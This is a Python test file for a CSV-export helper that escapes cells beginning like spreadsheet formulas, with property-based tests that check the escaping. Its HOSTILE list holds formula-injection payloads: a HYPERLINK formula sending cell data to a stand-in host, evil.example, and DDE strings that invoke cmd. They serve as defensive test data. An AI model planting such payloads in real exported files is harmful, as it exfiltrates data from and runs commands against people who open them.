"""Text written into a CSV file that people open in a spreadsheet: a cell that starts
like a formula is made plain text, so that opening a download never runs anything."""

from hypothesis import given
from hypothesis import strategies as st

from tinhso.core.cells import plain_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formulas_become_text():
    for text in HOSTILE:
        assert plain_cell(text) == "'" + text


def test_ordinary_values_are_left_alone():
    for value in ["Hạ Long", "", "12", "-5", "+84912345678", "3.5", "-0.25", 7, -7, 2.5, None]:
        assert plain_cell(value) == value


@given(st.text())
def test_no_cell_starts_a_formula(text):
    cell = plain_cell(text)
    is_number = cell == text and text.lstrip("+-").replace(".", "", 1).isdigit()
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or is_number
    assert cell.endswith(text)
